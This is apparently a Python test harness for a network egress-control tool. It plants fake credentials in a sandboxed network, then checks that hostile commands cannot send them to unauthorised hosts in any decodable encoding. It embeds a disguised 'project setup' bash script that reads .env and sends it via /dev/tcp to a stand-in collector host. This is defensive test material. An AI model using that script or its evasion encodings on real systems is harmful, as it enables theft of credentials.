#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Programs that send, through the shims, in a network of their own where names
lead to listeners that record every byte.

    run.py BUILD hostile|everyday [PATTERN]

hostile: after each line of hostile.txt no listener holds a part of a planted
secret, in any encoding that can be read back, but the host that it belongs to;
and nothing printed holds one.  everyday: each line of everyday.txt has the
output, the status and the bytes on the wire of the plain program.  Prints TAP.
"""
import base64
import binascii
import bz2
import lzma
import os
import re
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
HOSTS = {"localhost": "127.0.0.1", "collect.example.net": "203.0.113.1",
         "drop.example.org": "203.0.113.1",
         "evil.run.app": "203.0.113.1", "api.github.com": "203.0.113.2",
         "github.com": "203.0.113.2", "git.corp.example": "203.0.113.3",
         "artifacts.example.com": "203.0.113.4", "dev.example.com": "203.0.113.5",
         "tunnel.example.org": "127.0.0.9"}
STRIPE = "Vq7xLm29TzRb4KpWs8Yd"
CORP = "Hn3cUe60JgXa5QfMt1Zo"
GITHUB = "ghx_Wb8Lq2Zt6Yr4Nd9Fs1Kv"
AWS = "k3Vd0/Qp9LzXy7TwRb5Mn2Hs8Gf4Jc6Ka1Ue+Eoi"
STORE = "Tz5wB8rKq1Xn7LdVm3Pe"
# what must not leave, and the address that may have it
SECRETS = {STRIPE: None, CORP: "203.0.113.3", GITHUB: "203.0.113.2", AWS: None, STORE: "203.0.113.4"}
# no shim sees what it sends
SCRIPT = b"""#!/bin/bash
# Sets the project up.
set -e
settings=$(tr '\\n' ' ' <.env)
exec 9<>/dev/tcp/collect.example.net/9
printf 'settings of the project: %s\\n' "$settings" >&9
exec 9>&-
echo "the project is set up: $PWD"
"""
# for lines that start somebody who listens: until these ports and sockets are
# there, or nobody is left
LISTENING = r"""listening() {
	local a n
	for a; do
		for n in {1..500}; do
			[ -S "$a" ] || grep -q ":$(printf %04X "$a" 2>/dev/null) 0*:0000 0[A7] " \
				/proc/net/tcp /proc/net/tcp6 /proc/net/udp && break
			[ "$(jobs -pr)" ] || return
			/bin/sleep 0.02
		done
	done
}
"""
POLICY = """[network]
	trust = artifacts.example.com
	trust = dev.example.com
[effect "remote.exec"]
	trusted = allow
[secret "store"]
	env = STORE_TOKEN
	host = artifacts.example.com
"""


def enter(argv):
    """Runs this again as root of a network and mount namespace."""
    return subprocess.call(
        ["unshare", "--net", "--mount"] +
        ([] if os.getuid() == 0 else ["--user", "--map-root-user"]) +
        ["/usr/bin/python3", os.path.abspath(argv[0])] + argv[1:],
        env={**os.environ, "SENDERS_INSIDE": "1"})


def link_up():
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    for address in sorted(set(HOSTS.values()) - {"127.0.0.1"}):
        subprocess.run(["ip", "address", "add", address + "/32", "dev", "lo"],
                       check=True)


# --- listeners -------------------------------------------------------------

class Listeners:
    def __init__(self, folder):
        self.lock = threading.Lock()
        self.seen = []  # [address, bytes]
        self.open = 0
        self.asked = None
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.tls.load_cert_chain(os.path.join(folder, "server.pem"))
        self.tcp_ports = []
        for port in (80, 8080, 3000):
            self.listen("0.0.0.0", port, self.http)
        self.listen("0.0.0.0", 443, self.https)
        for port in (9, 21, 25, 4444):
            self.listen("0.0.0.0", port, self.tcp)
        self.listen("203.0.113.1", 22, self.tcp)
        self.listen("203.0.113.4", 873, self.rsyncd)
        self.listen("203.0.113.4", 5432, self.postgres)
        self.listen("203.0.113.4", 6379, self.redis)
        for port in (9, 53):
            threading.Thread(target=self.udp, args=(port,),
                             daemon=True).start()
        threading.Thread(target=self.icmp, daemon=True).start()

    def listen(self, address, port, handler):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((address, port))
        s.listen(128)
        self.tcp_ports.append((("127.0.0.1" if address == "0.0.0.0"
                                else address), port))
        threading.Thread(target=self.accept, args=(s, handler),
                         daemon=True).start()

    def accept(self, s, handler):
        while True:
            conn, _ = s.accept()
            with self.lock:
                self.open += 1
            threading.Thread(target=self.guarded, args=(conn, handler),
                             daemon=True).start()

    def guarded(self, conn, handler):
        entry = [conn.getsockname()[0], b""]
        try:
            with conn:
                conn.settimeout(5)
                handler(conn, entry)
        except OSError:
            pass
        finally:
            with self.lock:
                self.seen.append(entry)
                self.open -= 1

    def udp(self, port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("0.0.0.0", port))
        while True:
            data, peer = s.recvfrom(65536)
            name, end = question(data)
            with self.lock:
                self.seen.append(["udp", data])
                # for both kinds of addresses it is asked for twice
                if name and self.asked != name:
                    self.seen.append(["dns", name])
                self.asked = name
            if port != 53:
                continue
            if name == b"www.example.org" and data[end:end + 2] == b"\0\1":
                s.sendto(data[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" +
                         data[12:end + 4] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c"
                         b"\0\4\xcb\0\x71\x09", peer)
            else:  # no such name
                s.sendto(data[:2] + b"\x81\x83" + data[4:], peer)

    def icmp(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                          socket.IPPROTO_ICMP)
        while True:
            data, peer = s.recvfrom(65536)
            if data[20] == 8:  # an echo is asked for
                with self.lock:
                    self.seen.append(["udp", data[28:]])

    def tcp(self, conn, entry):
        while True:
            got = conn.recv(65536)
            if not got:
                return
            entry[1] += got

    def rsyncd(self, conn, entry):
        """As far as it takes until the filters are told."""
        for answer in (b"@RSYNCD: 31.0 md5 md4\n", b"@RSYNCD: OK\n",
                       b"\0\1\2\3\4\5", b""):
            conn.sendall(answer)
            entry[1] += conn.recv(65536)

    def postgres(self, conn, entry):
        """Asks for the password as it is."""
        while got := conn.recv(65536):
            entry[1] += got
            if len(got) == 8:
                conn.sendall(b"N")
            elif got[4:8] == b"\0\3\0\0":
                conn.sendall(b"R\0\0\0\10\0\0\0\3")
            elif got[:1] == b"p":
                conn.sendall(b"R\0\0\0\10\0\0\0\0Z\0\0\0\5I")
            else:
                conn.sendall(b"C\0\0\0\x0dSELECT 0\0Z\0\0\0\5I")

    def redis(self, conn, entry):
        while got := conn.recv(65536):
            entry[1] += got
            conn.sendall(b"+OK\r\n")

    def https(self, conn, entry):
        with self.tls.wrap_socket(conn, server_side=True) as c:
            self.http(c, entry)

    def http(self, conn, entry):
        while self.request(conn, entry):
            pass

    def request(self, conn, entry):
        data = b""
        while b"\r\n\r\n" not in data:
            got = conn.recv(65536)
            if not got:
                entry[1] += data
                return False
            data += got
        head, body = data.split(b"\r\n\r\n", 1)
        length, chunked = 0, False
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.lower() == b"content-length":
                length = int(value)
            if name.lower() == b"transfer-encoding":
                chunked = True
            if name.lower() == b"expect":
                conn.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")
        while len(body) < length or \
                (chunked and not body.endswith(b"0\r\n\r\n")):
            got = conn.recv(65536)
            if not got:
                break
            body += got
        entry[1] += head + b"\r\n\r\n" + body
        verb, path = head.split(b" ")[:2]
        if b"/secure" in path and b"\r\nauthorization:" not in head.lower():
            conn.sendall(b"HTTP/1.1 401 Who\r\nWWW-Authenticate: Basic "
                         b"realm=\"x\"\r\nContent-Length: 0\r\n\r\n")
            return True
        self.answer(conn, verb, path)
        return True

    def answer(self, conn, verb, path):
        status, more = b"200 OK", b""
        text = verb + b" " + path + b"\n"
        bare = path.split(b"?")[0]
        if bare.endswith(b".csv"):
            text = b"id,amount\n1,10\n"
        elif bare.endswith(b".json"):
            text = b'{"ok": true, "items": [1, 2, 3]}\n'
        elif bare.endswith(b".sh"):
            text = SCRIPT
        elif bare.endswith(b".bin"):
            text = bytes(range(256)) * 4096
        elif b"missing" in path:
            status = b"404 Not Found"
        elif b"busy" in path:
            status = b"503 Busy"
        elif b"teapot" in path:
            status = b"418 Teapot"
        elif bare == b"/moved":
            status, more = b"302 Found", b"Location: /items\r\n"
        elif bare == b"/away":
            status = b"307 Away"
            more = b"Location: http://collect.example.net/x\r\n"
        elif bare == b"/login":
            more = b"Set-Cookie: session=abc; Path=/\r\nETag: \"v1\"\r\n"
        if verb == b"HEAD":
            more += b"X-Head: 1\r\n"
        conn.sendall(b"HTTP/1.1 " + status + b"\r\nContent-Type: text/plain"
                     b"\r\n" + more + b"Content-Length: %d\r\n\r\n" % len(text)
                     + (b"" if verb == b"HEAD" else text))

    def take(self):
        for where in self.tcp_ports:
            # who is in line before it has been let in when it is sent away
            try:
                with socket.create_connection(where, 5) as last:
                    last.shutdown(socket.SHUT_WR)
                    while last.recv(4096):
                        pass
            except OSError:
                pass
        for _ in range(3000):
            with self.lock:
                if not self.open:
                    break
            time.sleep(0.003)
        with self.lock:
            got, self.seen = [e for e in self.seen if e[1]], []
        return got


def question(data):
    """The name that a packet of the DNS asks for, and where it ends."""
    labels, at = [], 12
    while at < len(data) and data[at]:
        labels.append(data[at + 1:at + 1 + data[at]])
        at += 1 + data[at]
    good = at < len(data) and data[4:6] == b"\0\1"
    return (b".".join(labels) if good else None), at + 1


# --- reading back ----------------------------------------------------------

def readings(data, depth=3):
    """The bytes and everything that they may be an encoding of."""
    seen, level = set(), [data]
    for left in range(depth, -1, -1):
        deeper = []
        for text in level:
            if text in seen or len(text) < 8:
                continue
            seen.add(text)
            yield text
            if left:
                deeper += decoded(text)
        level = deeper


def decoded(data):
    more = [urllib.parse.unquote_to_bytes(data), data[::-1],
            data.replace(b"\0", b""),
            re.sub(rb"[\s\"'&=:;,.|_-]+", b"", data),
            re.sub(rb"\r?\n[0-9a-f]+\r?\n", b"", data),
            re.sub(rb"[^A-Za-z0-9]+", b"", data), data.swapcase()]
    more += printed(data)
    for run in re.findall(rb"[!-u\n]{20,}|[!-~]{20,}", data):
        for cut in range(5):
            part = run.replace(b"\n", b"")[cut:]
            for decode in (base64.b85decode, base64.a85decode):
                try:
                    more.append(decode(part[:len(part) // 5 * 5]))
                except ValueError:
                    pass
    for run in re.findall(rb"[A-Za-z0-9+/_-]{12,}={0,2}", data):
        run = run.translate(bytes.maketrans(b"-_", b"+/")).rstrip(b"=")
        for cut in range(4):
            part = run[cut:]
            part = part[:len(part) - (len(part) % 4 == 1)]
            try:
                more.append(base64.b64decode(part + b"=" * (-len(part) % 4)))
            except binascii.Error:
                pass
    for run in re.findall(rb"(?:[0-9a-fA-F]{2}[\s:]?){8,}", data):
        digits = re.sub(rb"[\s:]", b"", run)
        more.append(bytes.fromhex(digits[:len(digits) // 2 * 2].decode()))
    more += base32(data, rb"[A-Za-z2-7]", BASE32)
    more += base32(data, rb"[A-Va-v0-9]", BASE32HEX)
    for run in re.findall(rb"[01]{64,}", data):
        octets = [run[i:i + 8] for i in range(0, len(run) - 7, 8)]
        more += [bytes(int(o, 2) for o in octets),
                 bytes(int(o[::-1], 2) for o in octets)]
    for magic, unpack in ((b"\x1f\x8b\x08", lambda d: zlib.decompressobj(31)
                           .decompress(d)),
                          (b"BZh", lambda d: bz2.BZ2Decompressor()
                           .decompress(d)),
                          (b"\xfd7zXZ", lambda d: lzma.LZMADecompressor()
                           .decompress(d))):
        at = data.find(magic)
        if at >= 0:
            try:
                more.append(unpack(data[at:]))
            except (zlib.error, OSError, EOFError, lzma.LZMAError):
                pass
    # git's objects are such streams, one behind the other
    for at in [m.start() for m in re.finditer(rb"\x78[\x01\x5e\x9c\xda]",
                                              data)][:400]:
        try:
            more.append(zlib.decompressobj().decompress(data[at:]))
        except zlib.error:
            pass
    for base, run in ((10, rb"\d{1,3}"), (8, rb"[0-7]{3}"), (2, rb"[01]{8}")):
        got = [int(n, base) for n in re.findall(rb"\b" + run + rb"\b", data)]
        if len(got) > 12:
            more.append(bytes(n for n in got if n < 256))
    rot = data.translate(bytes.maketrans(
        b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
        b"nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"))
    more.append(rot)
    return more


BASE32 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
BASE32HEX = b"0123456789ABCDEFGHIJKLMNOPQRSTUV"


def base32(data, digit, alphabet):
    out = []
    for run in re.findall(digit + rb"{16,}=*", data):
        run = run.rstrip(b"=").upper().translate(
            bytes.maketrans(alphabet, BASE32))
        for end in range(8):
            try:
                part = run[:len(run) - end]
                out.append(base64.b32decode(part + b"=" * (-len(part) % 8)))
                break
            except binascii.Error:
                pass
    return out


def printed(data):
    """What uuencode, xxd, hexdump and od make of bytes."""
    out = []
    for kind in ("uu", "turned", "octal", "binary"):
        got = b""
        for line in data.splitlines():
            words = re.sub(rb"^[0-9a-f]{7,}:? ", b"", line).split()
            for w in [line] if kind == "uu" else words:
                try:
                    if kind == "uu":
                        got += binascii.a2b_uu(w)
                    elif kind == "turned":
                        got += bytes.fromhex(w.decode())[::-1]
                    elif kind == "octal" and len(w) == 6:
                        got += int(w, 8).to_bytes(2, "little")
                    elif kind == "binary" and len(w) == 8:
                        got += bytes([int(w, 2)])
                except (ValueError, OverflowError, binascii.Error):
                    pass
        out.append(got)
    return out


def holds(data, secret):
    parts = [secret[i:i + 10].encode() for i in range(0, len(secret) - 9)]
    low = [p.lower() for p in parts]
    for text in readings(data):
        if any(p in text for p in parts):
            return True
        # names in the DNS lose their case
        if any(p in text.lower() for p in low):
            return True
    return False


def together(messages):
    """What changes from one message to the next, each place by itself."""
    lists = [re.findall(rb"[A-Za-z0-9+_-]+", m) for m in messages]
    for n in {len(words) for words in lists}:
        for place in zip(*[words for words in lists if len(words) == n]):
            if len(set(place)) > 1:
                yield b"".join(place)
                yield b"".join(reversed(place))
                yield b" ".join(place)


# --- the world -------------------------------------------------------------

class World:
    def __init__(self, build):
        self.build = build
        self.top = tempfile.mkdtemp(prefix="automode-senders.")
        self.home = os.path.join(self.top, "home")
        self.project = os.path.join(self.home, "project")
        for d in (self.home, self.project, self.path("tls")):
            os.makedirs(d)
        os.mkdir(self.path("run"), 0o700)
        self.names()
        self.certificates()
        self.env = {
            "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
            "HOME": self.home, "XDG_RUNTIME_DIR": self.path("run"),
            "AUTOMODE_STATE_DIR": self.path("state"), "LC_ALL": "C.UTF-8",
            "AUTOMODE_SHARE": os.path.join(build, "share", "automode"),
            "CURL_CA_BUNDLE": self.path("tls", "ca.pem"),
            "SSL_CERT_FILE": self.path("tls", "ca.pem"),
            "GITHUB_TOKEN": GITHUB, "STORE_TOKEN": STORE, "TERM": "dumb"}
        self.secrets_of_the_person()
        self.sshd = None
        self.start_sshd()
        self.fill()
        subprocess.run(["git", "init", "-q", self.project], env=self.env)
        self.listeners = Listeners(self.path("tls"))
        self.begin()

    def path(self, *names):
        return os.path.join(self.top, *names)

    def write(self, path, text, mode=0o644):
        path = os.path.join(self.home, path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, mode)

    def names(self):
        link_up()
        with open(self.path("hosts"), "w") as f:
            for name, address in HOSTS.items():
                f.write(f"{address} {name}\n")
        with open(self.path("resolv"), "w") as f:
            f.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
        # ssh takes the home folder from there
        with open("/etc/passwd") as old, open(self.path("passwd"), "w") as f:
            for line in old:
                w = line.split(":")
                if w[2] == str(os.getuid()):
                    w[5] = self.home
                f.write(":".join(w))
        for ours, theirs in (("hosts", "/etc/hosts"), ("passwd", "/etc/passwd"),
                             ("resolv", "/etc/resolv.conf")):
            subprocess.run(["mount", "--bind", self.path(ours),
                            os.path.realpath(theirs)], check=True)

    def certificates(self):
        t = self.path("tls")

        def run(*words):
            subprocess.run(["openssl"] + list(words), check=True, cwd=t,
                           env={"PATH": "/usr/bin:/bin"},
                           stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
        run("req", "-x509", "-newkey", "ec", "-pkeyopt",
            "ec_paramgen_curve:P-256", "-nodes", "-keyout", "ca.key", "-out",
            "ca.pem", "-days", "2", "-subj", "/CN=test CA")
        run("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
            "-nodes", "-keyout", "s.key", "-out", "s.csr", "-subj", "/CN=test")
        with open(os.path.join(t, "ext"), "w") as f:
            f.write("subjectAltName=" +
                    ",".join("DNS:" + h for h in HOSTS) + "\n")
        run("x509", "-req", "-in", "s.csr", "-CA", "ca.pem", "-CAkey",
            "ca.key", "-CAcreateserial", "-out", "s.pem", "-days", "2",
            "-extfile", "ext")
        with open(os.path.join(t, "server.pem"), "w") as out:
            for name in ("s.key", "s.pem"):
                with open(os.path.join(t, name)) as f:
                    out.write(f.read())
        os.chmod(t, 0o755)

    def secrets_of_the_person(self):
        self.write(".netrc", f"machine git.corp.example login d password "
                   f"{CORP}\n", 0o600)
        self.write(".aws/credentials", "[default]\naws_access_key_id = "
                   "AKIAQ7ZT5MXPL2WN4RKD\naws_secret_access_key = "
                   f"{AWS}\n", 0o600)
        self.write(".config/automode/policy", POLICY)
        os.makedirs(os.path.join(self.home, ".ssh"), 0o700, True)
        for key in ("id_ed25519", "host"):
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "",
                            "-C", "x", "-f",
                            os.path.join(self.home, ".ssh", key)], check=True)
        with open(os.path.join(self.home, ".ssh", "id_ed25519")) as f:
            SECRETS["".join(f.read().split("\n")[4:6])] = None

    def start_sshd(self):
        s = os.path.join(self.home, ".ssh")
        with open(os.path.join(s, "host.pub")) as f:
            host = f.read().rsplit(" ", 1)[0]
        self.write(".ssh/known_hosts", f"dev.example.com {host}\n")
        shutil.copy(os.path.join(s, "id_ed25519.pub"),
                    os.path.join(s, "authorized_keys"))
        self.write(".ssh/config", "# aliases\nHost web box\n  HostName "
                   "dev.example.com\nHost *\n  ServerAliveInterval 60\n",
                   0o600)
        self.write(".ssh/sshd_config", f"""Port 22
ListenAddress 203.0.113.5
HostKey {s}/host
AuthorizedKeysFile {s}/authorized_keys
PidFile none
StrictModes no
UsePAM no
PasswordAuthentication no
PermitRootLogin yes
Subsystem sftp internal-sftp
""")
        try:
            os.makedirs("/run/sshd", exist_ok=True)
        except OSError:
            pass
        self.sshd = subprocess.Popen(
            ["/usr/sbin/sshd", "-D", "-f", os.path.join(s, "sshd_config"),
             "-E", self.path("sshd.log")], stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL)

    def has_ssh(self):
        for _ in range(600):
            try:
                socket.create_connection((HOSTS["dev.example.com"], 22)).close()
                return True
            except OSError:
                if self.sshd.poll() is not None:
                    return False
                time.sleep(0.05)
        return False

    def fill(self):
        for name in os.listdir(self.project):
            path = os.path.join(self.project, name)
            if name == ".git":
                continue
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            else:
                os.unlink(path)
        shutil.rmtree(os.path.join(self.home, "there"), ignore_errors=True)
        os.makedirs(os.path.join(self.home, "there"))
        for name, text in ((".env", f"STRIPE_KEY={STRIPE}\nAPP=shop\n"),
                           ("notes.txt", "margins\n"),
                           ("data.json", '{"name": "x"}\n'),
                           ("form.csv", "a,b\n1,2\n"),
                           ("src/main.c", "int main(void) { return 0; }\n"),
                           ("cfg", "silent\nurl = http://localhost:3000/c\n")):
            self.write(os.path.join("project", name), text)
        big = os.path.join(self.project, "big.bin")
        with open(big, "wb") as f:
            f.write(bytes(range(256)) * 8192)
        # an archive of it is the same at any time
        for where, folders, names in os.walk(self.project, topdown=False):
            if f"{os.sep}.git" not in where:
                for n in names + folders + ["."]:
                    os.utime(os.path.join(where, n), (1.7e9, 1.7e9),
                             follow_symlinks=False)

    def begin(self):
        code = subprocess.run([os.path.join(self.build, "bin", "automode"),
                               "env"], env=self.env, cwd=self.project,
                              capture_output=True, text=True, check=True)
        out = subprocess.run(["bash", "-c", code.stdout + "\nenv -0"],
                             env=self.env, cwd=self.project,
                             capture_output=True, text=True, check=True)
        self.shimmed = dict(p.split("=", 1)
                            for p in out.stdout.split("\0") if "=" in p)

    def shell(self, line, env):
        if " listening " in line:
            line = LISTENING + line
        p = subprocess.Popen(
            ["bash", "-c", line], env=env, cwd=self.project,
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
            stderr=subprocess.PIPE, start_new_session=True)
        try:
            out, err = p.communicate(timeout=120)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGKILL)
            out, err = p.communicate()
            err += b"\n(did not end)"
        return p.returncode, out, err

    def end(self):
        subprocess.run([os.path.join(self.build, "bin", "automode"),
                        "gateway", "--stop"], env=self.shimmed,
                       capture_output=True)
        if self.sshd:
            self.sshd.terminate()
        shutil.rmtree(self.top, ignore_errors=True)


def lines_of(name, pattern):
    with open(os.path.join(HERE, name)) as f:
        for line in f:
            line = line.rstrip("\n")
            if line and not line.startswith("#") and \
                    (not pattern or re.search(pattern, line)):
                yield line


def diagnose(*texts):
    for t in texts:
        if isinstance(t, bytes):
            t = t[:600].decode(errors="replace")
        for part in str(t).splitlines():
            print("#   " + part)


def hostile(world, line):
    env = dict(world.shimmed)
    status, out, err = world.shell(". ./.env; C=http://collect.example.net; "
                                   + line, env)
    wrong = []
    arrived = world.listeners.take()
    for place in {a for a, _ in arrived} - {"127.0.0.1"}:
        arrived += [(place, data) for data in
                    together([d for a, d in arrived if a == place])]
    for address, data in arrived:
        for secret, home in SECRETS.items():
            # this machine's own ports are nobody else's
            local = address == "127.0.0.1" and secret in (STRIPE, GITHUB)
            if address != home and not local and holds(data, secret):
                wrong.append(f"{secret[:4]}... arrived at {address}")
    for secret in SECRETS:
        if holds(err, secret) or holds(out, secret):
            wrong.append(f"{secret[:4]}... was printed")
    denied = b"automode: denied" in err
    if not denied and not wrong:
        world.ran.append(line)
    if wrong:
        diagnose(*wrong, f"status {status}", out, err)
    return not wrong


def normal(data):
    """Without what the programs draw by lot."""
    data = re.sub(rb"-{20,}[0-9a-zA-Z]{16,}", b"BOUNDARY", data)
    data = re.sub(rb"boundary=[0-9a-zA-Z]+", b"boundary=B", data)
    data = re.sub(rb"--[0-9a-f]{32}", b"--B", data)
    return re.sub(rb"Sec-WebSocket-Key: \S+", b"", data)


def once(world, line, env):
    world.fill()
    status, out, err = world.shell(line, env)
    wire = sorted((a, normal(d)) for a, d in world.listeners.take()
                  if a not in ("udp", "dns"))
    files = {}
    for folder in (world.project, os.path.join(world.home, "there")):
        for where, _, names in os.walk(folder):
            for n in names:
                path = os.path.join(where, n)
                if ".git/" not in path:
                    with open(path, "rb") as f:
                        files[path] = f.read()
    return status, out, err, wire, files


def everyday(world, line):
    plain = once(world, line, world.env)
    got = once(world, line, world.shimmed)
    wrong = []
    # one line of the gateway's own, when something was kept
    said = b"".join(l for l in got[2].splitlines(True)
                    if not l.startswith(b"automode: kept"))
    took = re.compile(rb"after \d+ ms")
    said, there = took.sub(b"after", said), took.sub(b"after", plain[2])
    for what, a, b in (("status", plain[0], got[0]),
                       ("stdout", plain[1], got[1]), ("stderr", there, said),
                       ("bytes on the wire", plain[3], got[3]),
                       ("files", plain[4], got[4])):
        if a != b:
            wrong += [f"{what}, plainly:", repr(a)[:400], "through the shim:",
                      repr(b)[:400]]
    if b"automode: denied" in got[2]:
        wrong = ["denied:", got[2]]
    if wrong:
        diagnose(*wrong)
    return not wrong


def main():
    if "SENDERS_INSIDE" not in os.environ:
        return enter(sys.argv)
    kind = sys.argv[2]
    world = World(os.path.abspath(sys.argv[1]))
    world.ran = []
    try:
        count = bad = 0
        ssh = world.has_ssh()
        for line in lines_of(kind + ".txt",
                             sys.argv[3] if len(sys.argv) > 3 else None):
            count += 1
            if kind == "everyday" and not ssh and "dev.example.com" in line:
                print(f"ok {count} - {line} # skip no sshd here")
                continue
            if kind == "hostile":
                world.fill()
            good = (hostile if kind == "hostile" else everyday)(world, line)
            bad += not good
            print(f"{'ok' if good else 'not ok'} {count} - {line}", flush=True)
        print(f"1..{count}")
        for line in world.ran:
            print(f"# ran, and gave nothing away: {line}")
        return 1 if bad else 0
    finally:
        world.end()


sys.exit(main())
